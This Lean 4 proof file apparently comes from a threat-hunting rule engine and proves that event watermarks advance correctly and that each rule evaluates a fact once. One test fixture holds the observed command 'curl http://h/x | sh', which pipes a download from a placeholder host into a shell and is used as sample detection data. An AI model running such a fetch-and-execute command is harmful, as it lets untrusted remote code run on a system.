    ∃ last, (taken s call.taskId call.epochId).getLast? = some last ∧
      statement = fun s' => s'.advanceInvestigationConsumerWatermark call.taskId call.epochId
        schedulerConsumer schedulerVersion (watermark s call.taskId call.epochId) last.1 := by
  rw [cycleEnd] at h
  split at h
  · cases h
  · rename_i last hlast
    exact ⟨last, hlast, List.mem_singleton.1 h⟩

theorem cycleRules_spoken {statement : Statement} (h : statement ∈ cycleRules registry ids s call)
    {t t' : RuleStore} (ht : statement t = .ok t') : Spoken t t' := by
  rw [cycleRules] at h
  split at h
  · cases h
  · exact evaluateFacts_spoken h ht

theorem cycle_later : Later s (Statements.execute (cycle registry ids s call) cut s) := by
  refine Statements.execute_rel Later.refl Later.trans (fun statement hst t t' ht => ?_) cut s
  rcases List.mem_append.1 (cycle_eq call ▸ hst) with hrules | hrest
  · exact (cycleRules_spoken hrules ht).later
  · rcases List.mem_append.1 hrest with hplanner | hend
    · obtain ⟨planner, -, rfl⟩ := List.mem_map.1 hplanner
      exact (planner_grown ht).later
    · obtain ⟨last, -, rfl⟩ := mem_cycleEnd hend
      exact advance_later ht

theorem planner_kept {statement : PlannerStatement} (hs : Kept registry s)
    (h : statement.run s = .ok s') : Kept registry s' := by
  have hgrown := planner_grown h
  refine hs.grown (by rw [hgrown.others]) hgrown.facts ?_
  cases statement with
  | refused error => cases h
  | event appended =>
    obtain ⟨-, hevents⟩ := appendEvent_ok (onBatch_ok h).1
    refine hs.announced.grown hgrown.facts hevents fun event hevent factId hid => ?_
    rw [List.mem_singleton.1 hevent, announced, if_neg appended.other] at hid
    cases hid

theorem cycleRules_kept (h : Kept registry s) :
    Kept registry (Statements.execute (cycleRules registry ids s call) cut s) := by
  rw [cycleRules]
  split
  · exact h
  · exact evaluateFacts_kept h (((listed_listFacts none).filter _).filter _)

theorem cycle_kept (h : Kept registry s) :
    Kept registry (Statements.execute (cycle registry ids s call) cut s) := by
  rw [cycle_eq]
  rcases Statements.execute_append _ _ cut s with ⟨cut', heq⟩ | ⟨s₁, cut', -, hdone, heq⟩
  · rw [heq]
    exact cycleRules_kept h
  · rw [heq]
    have hs₁ : Kept registry s₁ := by
      rw [← Statements.execute_complete hdone]
      exact cycleRules_kept h
    refine Statements.execute_invariant (fun statement hst t t' ht hrun => ?_) hs₁
    rcases List.mem_append.1 hst with hplanner | hend
    · obtain ⟨planner, -, rfl⟩ := List.mem_map.1 hplanner
      exact planner_kept ht hrun
    · obtain ⟨last, -, rfl⟩ := mem_cycleEnd hend
      obtain ⟨-, -, hothers, -⟩ := advance_ok hrun
      refine ht.grown (by rw [hothers]) (by rw [hothers]) ?_
      rw [Announced, hothers]
      exact ht.announced

theorem watermark_congr (h : s'.consumers = s.consumers) :
    watermark s' taskId epochId = watermark s taskId epochId := by
  rw [watermark, watermark, RuleStore.getInvestigationConsumerWatermark,
    RuleStore.getInvestigationConsumerWatermark, h]

/-- A cycle leaves the watermarks alone, or its rules have come to their end and it has moved its own. -/
structure Moved (registry : Registry) (ids : FreshIds) (s s' : RuleStore) (call : CycleCall) : Prop where
  ruled : ∃ s₁, Statements.complete (cycleRules registry ids s call) s = .ok s₁ ∧ Later s₁ s'
  last : ∃ last, (taken s call.taskId call.epochId).getLast? = some last ∧
    watermark s' call.taskId call.epochId = last.1
  others : ∀ t e, (t, e) ≠ (call.taskId, call.epochId) → watermark s' t e = watermark s t e

theorem planners_batch {planners : List PlannerStatement} {cut : Option ℕ} :
    Later s (Statements.execute (planners.map PlannerStatement.run) cut s) ∧
      (Statements.execute (planners.map PlannerStatement.run) cut s).consumers = s.consumers := by
  refine Statements.execute_rel (R := fun s s' => Later s s' ∧ s'.consumers = s.consumers)
    (fun s => ⟨.refl s, rfl⟩) (fun h h' => ⟨h.1.trans h'.1, h'.2.trans h.2⟩)
    (fun statement hst t t' ht => ?_) cut s
  obtain ⟨planner, -, rfl⟩ := List.mem_map.1 hst
  have hgrown := planner_grown ht
  exact ⟨hgrown.later, by rw [hgrown.others]⟩

theorem cycleRules_batch {cut : Option ℕ} :
    Spoken s (Statements.execute (cycleRules registry ids s call) cut s) :=
  Statements.execute_rel (R := Spoken) Spoken.refl Spoken.trans
    (fun _ h _ _ ht => cycleRules_spoken h ht) cut s

theorem cycle_cases (cut : Option ℕ) :
    (Statements.execute (cycle registry ids s call) cut s).consumers = s.consumers ∨
      Moved registry ids s (Statements.execute (cycle registry ids s call) cut s) call := by
  rw [cycle_eq]
  rcases Statements.execute_append _ _ cut s with ⟨cut', heq⟩ | ⟨s₁, cut₁, -, hrules, heq⟩
  · rw [heq, cycleRules_batch.others]
    exact .inl rfl
  · have hspoken : Spoken s s₁ := by
      rw [← Statements.execute_complete hrules]
      exact cycleRules_batch
    have hs₁ : s₁.consumers = s.consumers := by rw [hspoken.others]
    rw [heq]
    rcases Statements.execute_append (call.planners.map PlannerStatement.run) (cycleEnd s call) cut₁ s₁
      with ⟨cut₂, heq'⟩ | ⟨s₂, cut₂, -, hplanners, heq'⟩
    · rw [heq', planners_batch.2, hs₁]
      exact .inl rfl
    · have hs₂ : Later s₁ s₂ ∧ s₂.consumers = s₁.consumers := by
        rw [← Statements.execute_complete hplanners]
        exact planners_batch
      rw [heq', cycleEnd]
      split
      · exact .inl (hs₂.2.trans hs₁)
      · rename_i last hlast
        rw [Statements.execute]
        split
        · exact .inl (hs₂.2.trans hs₁)
        · split
          · rename_i s₃ hadvance
            obtain ⟨-, -, -, hmark, helse⟩ := advance_ok hadvance
            refine .inr ⟨⟨s₁, hrules, hs₂.1.trans (advance_later hadvance)⟩, ⟨last, hlast, hmark⟩, ?_⟩
            intro t e hne
            exact (helse t e hne).trans (watermark_congr (hs₂.2.trans hs₁))
          · exact .inl (hs₂.2.trans hs₁)

/-- An event that is older than one of a store was there already. -/
theorem numberedEvents_of_le (h : Later s s') {item last : ℕ × InvestigationEvent}
    (hitem : item ∈ s'.numberedEvents) (hlast : last ∈ s.numberedEvents) (hle : item.1 ≤ last.1) :
    item ∈ s.numberedEvents := by
  obtain ⟨position, hget, hseq⟩ := mem_numberedEvents.1 hitem
  obtain ⟨position', hget', hseq'⟩ := mem_numberedEvents.1 hlast
  have hlength : position < s.batch.events.rows.length := by
    have := (List.getElem?_eq_some_iff.1 hget').1
    omega
  refine mem_numberedEvents.2 ⟨position, ?_, hseq⟩
  obtain ⟨more, hmore⟩ := h.events
  rw [← hmore, List.getElem?_append_left hlength] at hget
  exact hget

/-- An event that the watermark has passed in a cycle is one that the cycle has taken. -/
theorem Moved.was_taken (h : Moved registry ids s s' call) (hlater : Later s s'')
    {item : ℕ × InvestigationEvent} (hitem : item ∈ s''.numberedEvents)
    (htask : item.2.taskId = call.taskId) (hepoch : item.2.epochId = call.epochId)
    (hbefore : watermark s call.taskId call.epochId < item.1)
    (hafter : item.1 ≤ watermark s' call.taskId call.epochId) :
    item ∈ taken s call.taskId call.epochId := by
  obtain ⟨last, hlast, hmark⟩ := h.last
  have hmem := List.mem_of_getLast? hlast
  have hle : item.1 ≤ last.1 := hmark ▸ hafter
  have hitem' := numberedEvents_of_le hlater hitem (mem_taken hmem).1 hle
  refine mem_take_of_le (numberedEvents_increasing.filter _) (List.mem_filter.2 ⟨hitem', ?_⟩) hmem hle
  simp [htask, hepoch, hbefore]

/-- The facts of an event that the watermark has passed have been evaluated. -/
theorem Moved.evaluated (h : Moved registry ids s s' call) (hannounced : Announced s)
    {task : RuleTask} (hactive : s.activeTask call.taskId call.epochId = some task) (hlater : Later s s'')
    {item : ℕ × InvestigationEvent} (hitem : item ∈ RuleStore.numberedEvents s'')
    (htask : item.2.taskId = call.taskId) (hepoch : item.2.epochId = call.epochId)
    (hbefore : watermark s call.taskId call.epochId < item.1)
    (hafter : item.1 ≤ watermark s' call.taskId call.epochId) {fact : FactRecord}
    (hfact : fact ∈ s''.batch.factStore.facts.rows) (hid : fact.factId ∈ announced item.2)
    (htarget : isTargetObservation fact = true) : Evaluated registry s' fact := by
  have htaken := h.was_taken hlater hitem htask hepoch hbefore hafter
  have hrefs : fact.factId ∈ (taken s call.taskId call.epochId).flatMap fun item => announced item.2 :=
    List.mem_flatMap.2 ⟨item, htaken, hid⟩
  obtain ⟨s₁, hrules, hlater₁⟩ := h.ruled
  rw [cycleRules, if_neg (List.ne_nil_of_mem hrefs)] at hrules
  -- the fact of that id was in the tables when the event was taken
  obtain ⟨position, hget, -⟩ := mem_numberedEvents.1 (mem_taken htaken).1
  obtain ⟨fact', hfact', hid', htask', hepoch'⟩ :=
    hannounced item.2 (List.mem_of_getElem? hget) fact.factId hid
  obtain rfl := s''.batch.factStore.facts.eq_of_alt (hlater.facts.subset hfact') hfact hid'
  refine (evaluateFacts_evaluated hactive (((listed_listFacts none).filter _).filter _) hrules fact' ?_).later
    hlater₁
  refine List.mem_filter.2 ⟨List.mem_filter.2 ⟨?_, decide_eq_true hrefs⟩, htarget⟩
  refine (listFacts_perm none).mem_iff.2 (List.mem_filter.2 ⟨hfact', ?_⟩)
  simp [FactStore.ListFactsOptions.admits, htask', hepoch', htask, hepoch, Js.truthyText]

/-- A cycle that comes to its end has passed everything it has taken. -/
theorem cycle_passes (h : Statements.complete (cycle registry ids s call) s = .ok s') :
    ∀ item ∈ taken s call.taskId call.epochId, item.1 ≤ watermark s' call.taskId call.epochId := by
  intro item hitem
  rw [cycle_eq] at h
  obtain ⟨s₁, -, h⟩ := Statements.complete_append.1 h
  obtain ⟨s₂, -, h⟩ := Statements.complete_append.1 h
  rw [cycleEnd] at h
  split at h
  · rename_i hnone
    rw [List.getLast?_eq_none_iff.1 hnone] at hitem
    cases hitem
  · rename_i last hlast
    obtain ⟨s₃, hadvance, h⟩ := bind_ok.1 h
    cases h
    rw [(advance_ok hadvance).2.2.2.1]
    exact le_getLast taken_increasing hlast hitem

end

/-! ### Every run -/

theorem announced_batchEvent {input : BatchInput} {eventId batchId : String}
    {prepared : Normalizer.PreparedFactBatch} :
    announced (BatchStore.batchEvent input eventId batchId prepared) =
      prepared.facts.map (·.factId) := by
  have hrefs : (prepared.facts.map fun fact => Json.str fact.factId).filterMap Json.asString? =
      prepared.facts.map (·.factId) := by
    rw [List.filterMap_map, ← List.filterMap_eq_map]
    exact List.filterMap_congr fun _ _ => rfl
  rw [announced, BatchStore.batchEvent, if_pos rfl]
  exact hrefs

theorem mem_numbered {facts : List FactRecord} (nextSeq : ℕ) {fact : FactRecord} (h : fact ∈ facts) :
    ∃ fact' ∈ FactStore.numbered nextSeq facts, fact'.factId = fact.factId ∧
      fact'.taskId = fact.taskId ∧ fact'.epochId = fact.epochId := by
  induction facts generalizing nextSeq with
  | nil => cases h
  | cons first rest ih =>
    rcases List.mem_cons.1 h with rfl | h
    · exact ⟨{ fact with factSeq := nextSeq }, List.mem_cons_self, rfl, rfl, rfl⟩
    · obtain ⟨fact', hmem, hrest⟩ := ih (nextSeq + 1) h
      exact ⟨fact', List.mem_cons_of_mem _ hmem, hrest⟩

theorem exists_of_forall₂ {α β : Type} {R : α → β → Prop} {l : List α} {l' : List β}
    (h : List.Forall₂ R l l') {a : α} (ha : a ∈ l) : ∃ b, R a b := by
  induction h with
  | nil => cases ha
  | cons hhead _ ih =>
    rcases List.mem_cons.1 ha with rfl | ha
    · exact ⟨_, hhead⟩
    · exact ih ha

theorem commit_grown {input : BatchInput} {fails : ℕ → Option Thrown}
    (h : s.onBatch (·.commitFactBatch env fails input) = .ok s') : BatchGrown s s' := by
  obtain ⟨hbody, hothers⟩ := onBatch_ok h
  obtain ⟨prepared, drawn, hcommitted⟩ := BatchStore.commitFactBatch_ok env hbody
  exact ⟨hothers, by rw [hcommitted.facts]; exact List.prefix_append _ _,
    by rw [hcommitted.events]; exact List.prefix_append _ _⟩

/-- A committed batch announces its facts with them. -/
theorem commit_kept {input : BatchInput} {fails : ℕ → Option Thrown} (hs : Kept registry s)
    (h : s.onBatch (·.commitFactBatch env fails input) = .ok s') : Kept registry s' := by
  have hgrown := commit_grown h
  obtain ⟨hbody, hothers⟩ := onBatch_ok h
  obtain ⟨prepared, drawn, hcommitted⟩ := BatchStore.commitFactBatch_ok env hbody
  refine hs.grown (by rw [hothers]) hgrown.facts
    (hs.announced.grown hgrown.facts hcommitted.events fun event hevent factId hid => ?_)
  rw [List.mem_singleton.1 hevent] at hid ⊢
  rw [announced_batchEvent] at hid
  obtain ⟨fact, hfact, rfl⟩ := List.mem_map.1 hid
  obtain ⟨fact', hfact', hid', htask, hepoch⟩ :=
    mem_numbered (FactStore.maxSeq s.batch.factStore.facts.rows + 1) hfact
  obtain ⟨-, hnamed, -⟩ := Normalizer.prepareFactBatch_ok (BatchSystem.lookup_sound _ _ _) hcommitted.preparation
  obtain ⟨observation, ref, hfactNamed⟩ := exists_of_forall₂ hnamed hfact
  exact ⟨fact', by rw [hcommitted.facts]; exact List.mem_append_right _ hfact', hid',
    htask.trans hfactNamed.task, hepoch.trans hfactNamed.epoch⟩

/-- An operation that moves no watermark. -/
structure Quiet (registry : Registry) (s s' : RuleStore) : Prop where
  later : Later s s'
  kept : Kept registry s → Kept registry s'
  consumers : s'.consumers = s.consumers

theorem Quiet.refl (s : RuleStore) : Quiet registry s s := ⟨.refl s, fun h => h, rfl⟩

/-- The facts and the events are as they were. -/
theorem quiet_batch {body : BatchStore → Except Thrown BatchStore}
    (hfacts : ∀ b b', body b = .ok b' → b'.factStore.facts = b.factStore.facts)
    (hevents : ∀ b b', body b = .ok b' → b'.events = b.events) :
    Quiet registry s (transact s (s.onBatch body)) := by
  refine transact_induction (.refl s) fun s' h => ?_
  obtain ⟨hgrown, hfacts, hevents⟩ := onBatch_same hfacts hevents h
  refine ⟨hgrown.later, fun hs => hs.grown (by rw [hgrown.others]) hgrown.facts ?_, by rw [hgrown.others]⟩
  rw [Announced, hevents, hfacts]
  exact hs.announced

theorem createTask_quiet (task : RuleTask) : Quiet registry s (transact s (s.createTask task)) := by
  refine transact_induction (.refl s) fun s' h => ?_
  obtain ⟨tasks, hinsert, h⟩ := bind_ok.1 h
  cases h
  have hrows := (Table.insert?_eq_some (orThrow_ok.1 hinsert)).2
  refine ⟨{ Later.refl s with tasks := fun taskId task' htask => ⟨task', ?_, rfl⟩ },
    fun hs => hs.grown rfl List.prefix_rfl hs.announced, rfl⟩
  obtain ⟨hmem, hid⟩ := Table.get?_eq_some.1 htask
  exact Table.get?_eq_some.2 ⟨by rw [hrows]; exact List.mem_append_left _ hmem, hid⟩

/-- Another epoch leaves the checks of the tasks as they are. -/
theorem checks_set {tasks : Table RuleTask.taskId} {task : RuleTask} (htask : tasks.get? taskId = some task)
    (activeEpochId : Option String) : ∀ taskId' task', tasks.get? taskId' = some task' →
      ∃ later, (tasks.set { task with activeEpochId }).get? taskId' = some later ∧ later.checks = task'.checks := by
  intro taskId' task' htask'
  obtain ⟨hmem, -⟩ := Table.get?_eq_some.1 htask
  by_cases hsame : taskId' = task.taskId
  · subst hsame
    refine ⟨_, Table.get?_set_self (r := { task with activeEpochId }) ⟨task, hmem, rfl⟩, ?_⟩
    rw [Table.get?_of_mem hmem, Option.some.injEq] at htask'
    rw [htask']
  · exact ⟨task', (Table.get?_set_of_ne (r := { task with activeEpochId }) hsame).trans htask', rfl⟩

theorem saveTask_quiet (taskId : String) (activeEpochId : Option String) :
    Quiet registry s (s.saveTask taskId activeEpochId) := by
  rw [RuleStore.saveTask]
  split
  · exact .refl s
  · next task htask =>
    exact ⟨{ Later.refl s with tasks := checks_set htask activeEpochId },
      fun hs => hs.grown rfl List.prefix_rfl hs.announced, rfl⟩

theorem createScanEpoch_quiet (epoch : EpochRecord) :
    Quiet registry s (transact s (s.createScanEpoch epoch)) := by
  refine transact_induction (.refl s) fun s' h => ?_
  obtain ⟨task, htask, h⟩ := bind_ok.1 h
  obtain ⟨batch, hbatch, h⟩ := bind_ok.1 h
  cases h
  obtain ⟨hfacts, hevents⟩ := onFacts_ok hbatch
  have hfacts' := createEpoch_facts hfacts
  have hgrown : s.batch.factStore.facts.rows <+: batch.factStore.facts.rows := by rw [hfacts']
  refine ⟨{ Later.refl s with
      facts := hgrown
      events := by rw [hevents]
      tasks := checks_set (orThrow_ok.1 htask) _ }, fun hs => hs.grown rfl hgrown ?_, rfl⟩
  intro event hevent factId hid
  have hevent' : event ∈ s.batch.events.rows := hevents ▸ hevent
  have hfactsRows : batch.factStore.facts.rows = s.batch.factStore.facts.rows := by rw [hfacts']
  rw [hfactsRows]
  exact hs.announced event hevent' factId hid

theorem putAssessment_quiet {a : RecordedAssessment} (hother : a.authorType ≠ .rule) :
    Quiet registry s (transact s (s.putAssessment a)) := by
  refine transact_induction (.refl s) fun s' h => ?_
  obtain ⟨hothers, hrows⟩ := putAssessment_ok h
  refine ⟨putAssessment_later h, fun hs => ⟨fun rule hrule factId => ?_, ?_, ?_⟩, by rw [hothers]⟩
  · have hnot : concludes rule factId a = false := by
      rw [concludes, decide_eq_false hother, Bool.false_and, Bool.false_and]
    rw [hrows, List.filter_append, List.filter_cons_of_neg (by rw [hnot]; exact Bool.false_ne_true),
      List.filter_nil, List.append_nil]
    exact hs.once rule hrule factId
  · intro a' ha' hauthor
    rw [hrows] at ha'
    rcases List.mem_append.1 ha' with hold | hnew
    · rw [hothers]
      exact hs.home a' hold hauthor
    · exact absurd (List.mem_singleton.1 hnew ▸ hauthor) hother
  · rw [Announced, hothers]
    exact hs.announced

theorem putEvidence_quiet (item : EvidenceRecord) :
    Quiet registry s (transact s (s.putEvidence item)) := by
  refine transact_induction (.refl s) fun s' h => ?_
  obtain ⟨evidence, -, h⟩ := bind_ok.1 h
  cases h
  exact ⟨{ Later.refl s with }, fun hs => hs.grown rfl List.prefix_rfl hs.announced, rfl⟩

theorem appendEvent_quiet (event : OtherEvent) :
    Quiet registry s (transact s (s.onBatch (BatchStore.appendInvestigationEvent event.event))) := by
  refine transact_induction (.refl s) fun s' h => ?_
  have hstatement : (PlannerStatement.event event).run s = .ok s' := h
  have hgrown := planner_grown hstatement
  exact ⟨hgrown.later, fun hs => planner_kept hs hstatement, by rw [hgrown.others]⟩

theorem finishToolRun_same (b : BatchStore) (toolCallId : String) (status : ToolRunStatus)
    (result : Option Json) (error : Option String) :
    (b.finishToolRun toolCallId status result error).factStore = b.factStore ∧
      (b.finishToolRun toolCallId status result error).events = b.events := by
  rw [BatchStore.finishToolRun]
  split <;> exact ⟨rfl, rfl⟩

theorem evaluateFacts_quiet {now : String} {facts : List FactRecord} {cut : Option ℕ}
    (hlisted : Listed s taskId epochId facts) :
    Quiet registry s
      (Statements.execute (evaluateFacts registry ids s taskId epochId now facts) cut s) :=
  ⟨execute_spoken.later, fun hs => evaluateFacts_kept hs hlisted, by rw [execute_spoken.others]⟩

/-- Only a cycle moves a watermark. -/
theorem step_cases (op : RuleOp) : Quiet registry s (step registry ids env s op) ∨
    ∃ call cut, op = .cycle call cut ∧ Moved registry ids s (step registry ids env s op) call := by
  cases op with
  | createTask task => exact .inl (createTask_quiet task)
  | createScanEpoch epoch => exact .inl (createScanEpoch_quiet epoch)
  | saveTask taskId activeEpochId => exact .inl (saveTask_quiet taskId activeEpochId)
  | finishScanEpoch taskId epochId status =>
    exact .inl (quiet_batch (fun _ _ h => finishEpoch_facts (onFacts_ok h).1) fun _ _ h => (onFacts_ok h).2)
  | startToolRun record =>
    exact .inl (quiet_batch (fun _ _ h => by rw [(startToolRun_same h).1])
      fun _ _ h => (startToolRun_same h).2)
  | finishToolRun toolCallId outcome result error =>
    obtain ⟨hfacts, hevents⟩ := finishToolRun_same s.batch toolCallId outcome.status result error
    have hgrown : BatchGrown s (step registry ids env s (.finishToolRun toolCallId outcome result error)) :=
      ⟨rfl, by rw [step, hfacts], by rw [step, hevents]⟩
    refine .inl ⟨hgrown.later, fun hs => hs.grown rfl hgrown.facts ?_, rfl⟩
    rw [Announced, step, hfacts, hevents]
    exact hs.announced
  | commitFactBatch input fails =>
    refine .inl (transact_induction (.refl s) fun s' h => ?_)
    have hgrown := commit_grown h
    exact ⟨hgrown.later, fun hs => commit_kept hs h, by rw [hgrown.others]⟩
  | appendEvent event => exact .inl (appendEvent_quiet event)
  | putAssessment a hother => exact .inl (putAssessment_quiet hother)
  | putEvidence item => exact .inl (putEvidence_quiet item)
  | evaluate taskId epochId presetRunPrefix now cut =>
    exact .inl (evaluateFacts_quiet ((listed_listFacts _).filter _))
  | evaluateFactRefs taskId epochId now factRefs cut =>
    exact .inl (evaluateFacts_quiet (((listed_listFacts _).filter _).filter _))
  | cycle call cut =>
    have hcases : _ ∨ Moved registry ids s (step registry ids env s (.cycle call cut)) call := cycle_cases cut
    rcases hcases with hsame | hmoved
    · exact .inl ⟨cycle_later, cycle_kept, hsame⟩
    · exact .inr ⟨call, cut, rfl, hmoved⟩

theorem step_later (op : RuleOp) : Later s (step registry ids env s op) := by
  rcases @step_cases registry ids env s op with hquiet | ⟨call, cut, rfl, -⟩
  · exact hquiet.later
  · exact cycle_later

theorem step_kept (op : RuleOp) (h : Kept registry s) : Kept registry (step registry ids env s op) := by
  rcases @step_cases registry ids env s op with hquiet | ⟨call, cut, rfl, -⟩
  · exact hquiet.kept h
  · exact cycle_kept h

theorem run_later (s : RuleStore) (ops : List RuleOp) : Later s (Runs.run (step registry ids env) s ops) :=
  Runs.run_rel (I := fun _ => True) Later.refl Later.trans (fun _ _ _ _ => trivial)
    (fun _ op _ _ => step_later op) ops s trivial (Runs.along_true s ops)

theorem run_kept (ops : List RuleOp) : Kept registry (runOps registry ids env ops) :=
  Runs.run_invariant (I := Kept registry) (C := fun _ _ => True) (fun _ op h _ => step_kept op h)
    ops _ kept_empty (Runs.along_true _ _)

/-- An event that is behind the watermark was passed by one of the cycles. -/
theorem exists_passing {ops : List RuleOp} {seq : ℕ} (hpos : 0 < seq)
    (hpassed : seq ≤ watermark (runOps registry ids env ops) taskId epochId) :
    ∃ pre call cut post, ops = pre ++ .cycle call cut :: post ∧ call.taskId = taskId ∧
      call.epochId = epochId ∧ watermark (runOps registry ids env pre) taskId epochId < seq ∧
      seq ≤ watermark (runOps registry ids env (pre ++ [.cycle call cut])) taskId epochId ∧
      Moved registry ids (runOps registry ids env pre)
        (runOps registry ids env (pre ++ [.cycle call cut])) call := by
  obtain ⟨pre, op, post, rfl, hbefore, hafter⟩ := Runs.exists_crossing
    (P := fun s => seq ≤ watermark s taskId epochId)
    (not_le.2 (show watermark .empty taskId epochId < seq from hpos)) hpassed
  have hstep : runOps registry ids env (pre ++ [op]) =
      step registry ids env (runOps registry ids env pre) op := by
    rw [runOps, Runs.run_append]
    rfl
  have hafter' : seq ≤ watermark (step registry ids env (runOps registry ids env pre) op) taskId epochId :=
    hstep ▸ hafter
  have hbefore' : watermark (runOps registry ids env pre) taskId epochId < seq := not_le.1 hbefore
  rcases @step_cases registry ids env (runOps registry ids env pre) op with hquiet |
    ⟨call, cut, rfl, hmoved⟩
  · rw [watermark_congr hquiet.consumers] at hafter'
    omega
  · by_cases hsame : (taskId, epochId) = (call.taskId, call.epochId)
    · obtain ⟨rfl, rfl⟩ := Prod.mk.inj hsame
      exact ⟨pre, call, cut, post, rfl, rfl, rfl, hbefore', hafter, hstep ▸ hmoved⟩
    · rw [hmoved.others _ _ hsame] at hafter'
      omega

/-- The facts of an event that were observed on the target. -/
def targetFacts (s : RuleStore) (event : InvestigationEvent) : List FactRecord :=
  s.batch.factStore.facts.rows.filter fun fact =>
    fact.factId ∈ announced event && isTargetObservation fact

/-- The watermark never goes back; a cycle that comes to its end passes all it has taken; what the watermark
    has passed has been evaluated, unless it was passed for an epoch that was not the active one of the task;
    and no rule speaks twice of one fact. -/
theorem delivered_once (registry : Registry) (ids : FreshIds) (env : FactEnv) (ops : List RuleOp)
    (taskId epochId : String) :
    (∀ pre post, ops = pre ++ post → watermark (runOps registry ids env pre) taskId epochId ≤
      watermark (runOps registry ids env ops) taskId epochId) ∧
    (∀ item ∈ (runOps registry ids env ops).numberedEvents, item.2.taskId = taskId →
      item.2.epochId = epochId → item.1 ≤ watermark (runOps registry ids env ops) taskId epochId →
      (∀ fact ∈ targetFacts (runOps registry ids env ops) item.2,
        Evaluated registry (runOps registry ids env ops) fact) ∨
      ∃ pre call cut post, ops = pre ++ .cycle call cut :: post ∧ call.taskId = taskId ∧
        call.epochId = epochId ∧ watermark (runOps registry ids env pre) taskId epochId < item.1 ∧
        item.1 ≤ watermark (runOps registry ids env (pre ++ [.cycle call cut])) taskId epochId ∧
        (runOps registry ids env pre).activeTask taskId epochId = none) ∧
    (∀ pre call post, ops = pre ++ .cycle call none :: post → call.taskId = taskId →
      call.epochId = epochId → (Statements.complete (cycle registry ids (runOps registry ids env pre) call)
        (runOps registry ids env pre)).isOk →
      ∀ item ∈ taken (runOps registry ids env pre) taskId epochId,
        item.1 ≤ watermark (runOps registry ids env ops) taskId epochId) ∧
    OncePerFact registry (runOps registry ids env ops) := by
  have hsplit : ∀ pre post, ops = pre ++ post →
      Later (runOps registry ids env pre) (runOps registry ids env ops) := by
    rintro pre post rfl
    rw [runOps, runOps, Runs.run_append]
    exact run_later _ post
  refine ⟨fun pre post h => (hsplit pre post h).watermark taskId epochId, ?_, ?_, (run_kept ops).once⟩
  · rintro item hitem htask hepoch hpassed
    obtain ⟨position, -, hseq⟩ := mem_numberedEvents.1 hitem
    obtain ⟨pre, call, cut, post, hops, hcallTask, hcallEpoch, hbefore, hafter, hmoved⟩ :=
      exists_passing (by omega) hpassed
    cases hactive : (runOps registry ids env pre).activeTask taskId epochId with
    | none => exact .inr ⟨pre, call, cut, post, hops, hcallTask, hcallEpoch, hbefore, hafter, hactive⟩
    | some task =>
      subst hcallTask hcallEpoch
      refine .inl fun fact hfact => ?_
      obtain ⟨hmem, hboth⟩ := List.mem_filter.1 hfact
      obtain ⟨hid, htarget⟩ := Bool.and_eq_true_iff.1 hboth
      have hafterLater := hsplit (pre ++ [.cycle call cut]) post (by rw [hops]; simp)
      exact (hmoved.evaluated (run_kept pre).announced hactive (hsplit pre _ hops) hitem htask hepoch
        hbefore hafter hmem (of_decide_eq_true hid) htarget).later hafterLater
  · rintro pre call post hops rfl rfl hok item hitem
    have hafterLater := hsplit (pre ++ [.cycle call none]) post (by rw [hops]; simp)
    cases hcomplete : Statements.complete (cycle registry ids (runOps registry ids env pre) call)
      (runOps registry ids env pre) with
    | error e =>
      rw [hcomplete] at hok
      cases hok
    | ok s' =>
      refine (cycle_passes hcomplete item hitem).trans (le_trans (le_of_eq ?_)
        (hafterLater.watermark call.taskId call.epochId))
      rw [← Statements.execute_complete hcomplete, runOps, runOps, Runs.run_append]
      rfl

/-! ### An epoch that is not the active one any more -/

/-- What the watermark has passed has been evaluated, whatever epoch it was passed for. -/
def Delivered (registry : Registry) (s : RuleStore) : Prop :=
  ∀ item ∈ s.numberedEvents, item.1 ≤ watermark s item.2.taskId item.2.epochId →
    ∀ fact ∈ targetFacts s item.2, Evaluated registry s fact

def sampleTexts : Playbooks.Texts := ⟨Js.plainCoercions, fun text => text⟩

def downloadBatch : BatchInput :=
  { BatchSystem.cronBatch "1" "curl http://h/x | sh" with
    source := { kind := .model, evidenceOrigin := some "TARGET_OBSERVATION" } }

/-- A fact is committed, and the scheduler comes to it before or after the task has got another epoch. -/
def downloadRun (superseding : List RuleOp) : List RuleOp :=
  [RuleOp.createTask ⟨"TASK-1", [.linuxPersistence], none⟩,
    .createScanEpoch ⟨"EPOCH-1", "TASK-1", "SHA256:host", .running⟩,
    .commitFactBatch downloadBatch fun _ => none] ++ superseding ++
  [RuleOp.cycle ⟨"TASK-1", "EPOCH-1", "2", []⟩ none]

def superseded : List RuleOp :=
  downloadRun [.createScanEpoch ⟨"EPOCH-2", "TASK-1", "SHA256:host", .running⟩]

theorem not_delivered_superseded : ¬ Delivered (deterministicRulesV2 sampleTexts)
    (runOps (deterministicRulesV2 sampleTexts) strokeIds BatchSystem.sampleBatchEnv superseded) := by
  have hpassed : ∃ item ∈ (runOps (deterministicRulesV2 sampleTexts) strokeIds BatchSystem.sampleBatchEnv
      superseded).numberedEvents, item.1 ≤ watermark (runOps (deterministicRulesV2 sampleTexts) strokeIds
        BatchSystem.sampleBatchEnv superseded) item.2.taskId item.2.epochId ∧
      ∃ fact ∈ targetFacts (runOps (deterministicRulesV2 sampleTexts) strokeIds BatchSystem.sampleBatchEnv
        superseded) item.2, fact.factId ∉ (runOps (deterministicRulesV2 sampleTexts) strokeIds
          BatchSystem.sampleBatchEnv superseded).evaluated := by
    decide +kernel
  obtain ⟨item, hitem, hle, fact, hfact, hnot⟩ := hpassed
  exact fun hdelivered => hnot (hdelivered item hitem hle fact hfact).recorded

end HuntWarden.Rules
